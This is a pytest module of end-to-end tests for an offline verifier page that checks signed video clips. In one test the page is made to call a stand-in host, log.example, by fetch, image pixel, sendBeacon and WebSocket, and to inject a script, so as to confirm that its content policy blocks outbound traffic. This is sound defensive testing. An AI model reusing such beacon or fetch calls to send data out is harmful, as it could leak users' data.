"""The offline verifier: the same reports as the command line in Node and in Chromium, and a page that stays at home."""

import base64
import hashlib
import json
import re
import subprocess
from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import groupby, pairwise
from pathlib import Path
from random import Random

import pytest
from tests.e2e.test_pages import probe
from tests.proof_cases import cases
from tests.proof_lab import Files, bag, relisted, stored_zip, story, tagged
from tests.proof_lab import main as write_cases
from tools.build_ui import find_node

from aigaq.base import LANGUAGES
from aigaq.web.assets import BUILT
from aigaq_verify import NotEvidenceError, PolicyError, parse_policy, verify

pytestmark = pytest.mark.peer
UI = Path(__file__).resolve().parents[2] / "ui"
VECTORS = Path(__file__).resolve().parents[1] / "verify/vectors"
PAGE = (BUILT / "verifier.html").as_uri()
ENGINES = ["best", "bundled"]
NO_VERDICT = {"USAGE": "NO VERDICT"}
NAMES = re.compile(
    r"\b(?:[\w./-]*\.(?:zip|txt|json|cbor|mp4|m4s|note|html|example)\S*|s-101|vote-26|box|main|sub|leaf|chair/\S+|it/\S+"
    r"|W\d|SHA-256|Ed25519|P-256|ML-DSA-44|MB|UTC\S*|America/New_York|Aigaq|BagIt|PolicyError|quorum|python|English|Eng)\b"
)
"""What stays as it is in every language: names of files, keys, algorithms and zones."""


def node(*arguments: object) -> str:
    command = [find_node().program, UI / "judge.mjs", *map(str, arguments)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def told(case: dict, folder: Path) -> object:
    """What the command line says with `--json`."""
    try:
        policy = None if case["trust"] is None else parse_policy((folder / case["trust"]).read_bytes())
    except PolicyError as error:
        return {"verdict": "USAGE", "exit_code": 2, "headline": str(error)}
    try:
        with (folder / case["file"]).open("rb") as stream:
            return json.loads(json.dumps(verify(stream, policy).as_json()))
    except NotEvidenceError as error:
        return {"verdict": "NOT A CLIP", "exit_code": 8, "headline": str(error)}


class Cases:
    def __init__(self, folder: Path) -> None:
        write_cases(folder, cases)
        self.folder = folder
        self.listed: list[dict] = json.loads((folder / "cases.json").read_text())
        self.reports = [told(case, folder) for case in self.listed]

    def path(self, name: str) -> Path:
        return next(self.folder / case["file"] for case in self.listed if case["file"].startswith(name))

    def verdict(self, wanted: str) -> tuple[Path, Path]:
        """The first clip with that verdict, and its trust file."""
        found = next(c for c in self.listed if c["verdict"] == wanted and c["trust"] and "package" not in c["file"])
        return self.folder / found["file"], self.folder / found["trust"]


@pytest.fixture(scope="module")
def lab(tmp_path_factory) -> Cases:
    return Cases(tmp_path_factory.mktemp("cases"))


@pytest.fixture
def page(browser) -> Iterator:
    """The page from disk; nothing may be asked of any network, and nothing written to the console."""
    opened = browser.new_context(viewport={"width": 1280, "height": 900}, timezone_id="America/New_York")
    page, complaints, asked = opened.new_page(), [], []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("request", lambda request: asked.append(request.url))
    yield page
    opened.close()
    assert not complaints
    assert {url.split("#")[0].split("?")[0] for url in asked if not url.startswith("data:")} <= {PAGE, "about:blank"}


def judge(page, file: Path, trust: Path | None = None) -> str:
    """Chooses both files and waits for the verdict."""
    if trust is not None:
        page.set_input_files("#trust-file", trust)
        page.wait_for_selector("#trusted p")
    page.set_input_files("#file", file)
    page.wait_for_selector("#result:not([hidden])")
    return page.locator("[data-verdict]").first.get_attribute("data-verdict")


def test_there_are_enough_cases(lab):
    assert len(lab.listed) >= 70
    assert sum(case["verdict"] != "VERIFIED" for case in lab.listed) > len(lab.listed) / 2


def test_node_reports_what_the_command_line_reports(lab):
    found = json.loads(node("best", lab.folder / "cases.json"))
    for case, ours, theirs in zip(lab.listed, lab.reports, found, strict=True):
        assert theirs == ours, case["file"]


@pytest.mark.parametrize("engine", ENGINES)
def test_chromium_reports_what_the_command_line_reports(lab, page, tmp_path, engine):
    node("bundle", tmp_path / "compare.js")
    page.goto("about:blank")
    page.set_content("<input type=file id=trust multiple><input type=file id=file multiple>")
    page.add_script_tag(path=tmp_path / "compare.js")
    trusts = sorted({case["trust"] for case in lab.listed} - {None})
    page.set_input_files("#trust", [lab.folder / name for name in trusts])
    page.set_input_files("#file", [lab.folder / case["file"] for case in lab.listed])
    found = page.evaluate(
        """async ([cases, engine]) => {
          const find = (id, name) => [...document.getElementById(id).files].find((file) => file.name === name);
          const bytes = async (name) => name && new Uint8Array(await find("trust", name).arrayBuffer());
          const each = cases.map(async ({file, trust}) =>
            aigaqVerifier.compare(find("file", file), await bytes(trust), engine));
          return Promise.all(each);
        }""",
        [lab.listed, engine],
    )
    for case, ours, theirs in zip(lab.listed, lab.reports, found, strict=True):
        assert theirs == ours, case["file"]


@pytest.mark.parametrize("engine", ENGINES)
def test_the_page_gives_every_verdict(lab, page, engine):
    every = list(zip(lab.listed, lab.reports, strict=True))
    chosen_cases = (
        every if engine == "best" else list({report["verdict"]: (case, report) for case, report in every}.values())
    )
    by_trust = sorted(chosen_cases, key=lambda pair: pair[0]["trust"] or "")
    for trust, group in groupby(by_trust, key=lambda pair: pair[0]["trust"]):
        page.goto(f"{PAGE}?{engine}#en")
        chosen = trust and lab.folder / trust
        for case, report in group:
            verdict = judge(page, lab.folder / case["file"], chosen)
            chosen = None
            wanted = NO_VERDICT.get(report["verdict"], report["verdict"])
            assert verdict == wanted, case["file"]
            clips = report.get("clips", [report] if "lines" in report else [])
            lines = [
                *(report["lines"] if "clips" in report else []),
                *(line for clip in clips for line in clip["lines"]),
            ]
            shown = page.locator("[data-check] p").all_text_contents()
            assert shown == [line["text"] for line in lines], case["file"]


def spoiled(data: bytes, chance: Random) -> bytes:
    """The bytes with a few changes of the kinds that readers stumble over."""
    changed = bytearray(data)
    for _ in range(chance.choice([1, 1, 2, 5])):
        at = chance.randrange(len(changed) + 1)
        match chance.randrange(4):
            case 0:
                changed[at : at + 1] = chance.randbytes(1)
            case 1:
                del changed[at : at + chance.choice([1, 2, 8])]
            case 2:
                changed[at:at] = bytes(chance.choices(b"\0\n A=+0\xff\x18\xc2\xf6\xfb", k=chance.choice([1, 4])))
            case _:
                changed[at : at + 4] = changed[: len(changed) - at][-4:]
    return bytes(changed)


def spoiled_file(chance: Random, good: Files) -> bytes:
    files = dict(good)
    if chance.random() < 0.2:
        return spoiled(stored_zip(files), chance)
    for name in chance.sample(sorted(files), chance.choice([1, 2])):
        files[name] = chance.choice([spoiled(files[name], chance), files[chance.choice(sorted(good))]])
    if "clip.json" in files and files["clip.json"] == good["clip.json"]:
        files = relisted(files)
    return stored_zip(
        files if "bagit.txt" not in files else tagged({n: d for n, d in files.items() if n[:5] == "data/"})
    )


def test_spoiled_files_get_the_same_verdicts(tmp_path):
    """What no case foresaw: the reasons may be worded differently, the verdict of each line may not."""
    chance, made = Random(3), story(rounds=2)
    made.gap(made.end + 3_000).rounds(1)
    clip, listed = made.files(), []
    (tmp_path / "policy.txt").write_text(made.lab.trust())
    for number in range(150):
        good = clip if number % 3 else bag({"box-main": clip})
        (tmp_path / f"{number}.zip").write_bytes(spoiled_file(chance, good))
        listed.append({"file": f"{number}.zip", "trust": "policy.txt"})
    (tmp_path / "cases.json").write_text(json.dumps(listed))
    found = json.loads(node("best", tmp_path / "cases.json"))
    for case, theirs in zip(listed, found, strict=True):
        assert without_words(theirs) == without_words(told(case, tmp_path)), case["file"]


def without_words(report: dict) -> dict:
    left = {key: value for key, value in report.items() if key != "headline"}
    for line in left.get("lines", []):
        line.pop("text")
    return {**left, "clips": [without_words(clip) for clip in left.get("clips", [])]}


@pytest.mark.parametrize("kind", ["Ed25519", "P-256"])
def test_chromium_refuses_every_doubtful_signature(page, tmp_path, kind):
    """Also what WebCrypto accepts by itself: the first is the signature that nobody made."""
    node("bundle", tmp_path / "compare.js")
    page.goto("about:blank")
    page.add_script_tag(path=tmp_path / "compare.js")
    found = json.loads((VECTORS / f"{kind.replace('-', '').lower()}.json").read_text())
    each = [[kind, v["public"], v["message"], v["signature"]] for v in [*found["valid"], *found["invalid"]]]
    expected = [True] * len(found["valid"]) + [False] * len(found["invalid"])
    for engine in ENGINES:
        assert page.evaluate("([v, e]) => aigaqVerifier.verifyEach(v, e)", [each, engine]) == expected


def test_chromium_computes_all_of_it_itself(page):
    page.goto(f"{PAGE}#en")
    page.wait_for_selector("#engine:not(:empty)")
    assert "SHA-256, Ed25519, P-256, ML-DSA-44" in page.inner_text("#engine")
    page.goto(f"{PAGE}?bundled#en")
    page.wait_for_selector("#engine:not(:empty)")
    assert "by code in this page alone" in page.inner_text("#engine")


def test_the_page_has_no_way_to_send(browser):
    page = browser.new_page()
    page.goto(PAGE)
    policy = page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    assert "unsafe" not in policy
    refused = page.evaluate(
        """async () => {
          const heard = [];
          document.addEventListener("securitypolicyviolation", (event) => heard.push(event.effectiveDirective));
          await fetch("https://log.example/").catch(() => null);
          new Image().src = "https://log.example/pixel";
          navigator.sendBeacon("https://log.example/", "x");
          try { new WebSocket("wss://log.example/"); } catch { }
          const script = document.createElement("script");
          script.textContent = "document.title = 'foreign'";
          document.body.append(script);
          await new Promise((resolve) => setTimeout(resolve, 100));
          return [heard, document.title];
        }"""
    )
    assert {"connect-src", "img-src", "script-src-elem"} <= set(refused[0])
    assert refused[1] != "foreign"
    page.close()


def test_the_centre_serves_it_and_its_own_clip_is_judged_alike(visitor, centre, tmp_path):
    page = visitor.open(f"/en/station/example-001?camera=box&t={centre.gap_from_ms - 6000}", java_script_enabled=False)
    page.locator("#clip-camera").select_option("box")
    start = page.locator("#goto").input_value()
    page.locator("#clip-from").fill(start)
    page.locator("#clip-to").fill((datetime.fromisoformat(start) + timedelta(seconds=4)).isoformat())
    with page.expect_download() as download:
        page.get_by_role("button", name="Download with proofs").click()
    clip, trust = tmp_path / "clip.zip", tmp_path / "policy.txt"
    download.value.save_as(clip)
    trust.write_bytes(page.request.get("/policy.txt").body())
    report = told({"file": "clip.zip", "trust": "policy.txt"}, tmp_path)
    page = visitor.open("/verifier.html#en")
    assert judge(page, clip, trust) == report["verdict"]
    assert page.locator("[data-check] p").all_text_contents() == [line["text"] for line in report["lines"]]
    assert report["verdict"] == "VERIFIED"


def test_it_is_one_file_of_modest_size():
    data = (BUILT / "verifier.html").read_bytes()
    assert len(data) <= 200_000
    assert not re.search(rb"""(?:src|href)=["'](?!data:|#)""", data)
    assert b"The MIT License" in data


def test_the_interval_is_shown_in_utc_and_in_the_readers_zone(lab, page):
    file, trust = lab.verdict("VERIFIED")
    page.goto(f"{PAGE}#en")
    assert judge(page, file, trust) == "VERIFIED"
    report = next(r for c, r in zip(lab.listed, lab.reports, strict=True) if lab.folder / c["file"] == file)
    shown = page.locator(".between").all_inner_texts()
    assert len(shown) == 2
    for text, key in zip(shown, ("not_before_ms", "not_after_ms"), strict=True):
        utc = page.evaluate("(ms) => new Date(ms).toISOString().replace('T', ' ').replace('Z', ' UTC')", report[key])
        assert utc in text
        assert "America/New_York, UTC-05:00" in text


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("verdict", ["VERIFIED", "GAP", "FAILED", "UNWITNESSED"])
def test_result_speaks_its_language_on_a_phone(lab, page, language, verdict):
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(f"{PAGE}#{language}")
    assert judge(page, *lab.verdict(verdict)) == verdict
    assert page.locator("html").get_attribute("lang") == language
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "it scrolls sideways at phone width"
    if language != "en":
        told = [text for text in probe(page, "texts") if not re.match("<p |@noble|[0-9a-f ]{79}$", text)]
        words = [word for text in told for word in re.findall("[A-Za-z]{3,}", NAMES.sub("", text))]
        assert words == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("verdict", ["VERIFIED", "SILENT HOLE", "UNKNOWN KEY"])
def test_result_is_accessible(lab, page, scheme, verdict):
    page.emulate_media(color_scheme=scheme)
    page.goto(f"{PAGE}#ru")
    judge(page, *lab.verdict(verdict))
    assert probe(page, "nameless") == []
    assert probe(page, "faint") == []
    assert [line for line in probe(page, "small") if "visually-hidden" not in line] == []
    order = page.evaluate("[...document.querySelectorAll('h1, h2, h3')].map((h) => +h.tagName[1])")
    assert order[0] == 1
    assert all(later - earlier <= 1 for earlier, later in pairwise(order))


def test_changing_the_language_keeps_the_result(lab, page):
    page.goto(f"{PAGE}#en")
    judge(page, *lab.verdict("GAP"))
    page.get_by_role("link", name="Қазақша").click()
    page.wait_for_function("document.querySelector('.verdict h2').textContent === 'ҮЗІЛІС'")
    assert page.title() == "Бейнежазбаны өзіңіз тексеріңіз · Aigaq"


def test_trust_is_remembered_only_when_asked(lab, page):
    file, trust = lab.verdict("VERIFIED")
    page.goto(f"{PAGE}#en")
    judge(page, file, trust)
    page.reload()
    assert page.input_value("#trust-text") == ""
    page.fill("#trust-text", trust.read_text())
    page.check("#remember")
    page.reload()
    page.wait_for_selector(".fingerprint")
    digest = hashlib.sha256(trust.read_bytes()).hexdigest()
    assert page.inner_text(".fingerprint").replace(" ", "") == digest
    assert judge(page, file) == "VERIFIED"
    page.uncheck("#remember")
    page.reload()
    assert page.input_value("#trust-text") == ""


def test_both_files_can_be_dropped_and_trust_given_later(lab, page):
    file, trust = lab.verdict("VERIFIED")
    page.goto(f"{PAGE}#en")
    assert judge(page, file) == "UNKNOWN_KEY"
    page.fill("#trust-text", trust.read_text())
    page.wait_for_selector("[data-verdict=VERIFIED]")
    page.reload()
    page.evaluate(
        """([zip, text]) => {
          const bytes = Uint8Array.from(atob(zip), (c) => c.charCodeAt(0));
          const data = new DataTransfer();
          data.items.add(new File([bytes], "clip.zip"));
          data.items.add(new File([text], "policy.txt"));
          document.body.dispatchEvent(new DragEvent("drop", {dataTransfer: data, bubbles: true, cancelable: true}));
        }""",
        [base64.b64encode(file.read_bytes()).decode(), trust.read_text()],
    )
    page.wait_for_selector("[data-verdict=VERIFIED]")


def test_a_wrong_trust_file_gives_no_verdict(lab, page):
    file, _ = lab.verdict("VERIFIED")
    page.goto(f"{PAGE}#en")
    page.fill("#trust-text", "nonsense\n")
    assert "line 1: not a line of a trust file: 'nonsense'" in page.inner_text("#trusted")
    assert judge(page, file) == "NO VERDICT"
    page.fill("#trust-text", "")
    page.wait_for_selector("[data-verdict=UNKNOWN_KEY]")


def test_the_report_can_be_copied(lab, page):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.goto(f"{PAGE}#en")
    judge(page, *lab.verdict("GAP"))
    page.get_by_role("button", name="Copy the report as text").click()
    page.get_by_role("button", name="Copied").wait_for()
    text = page.evaluate("navigator.clipboard.readText()")
    assert text.startswith("GAP: unchanged, but time without footage")
    assert "Not before: 2026-11-18" in text
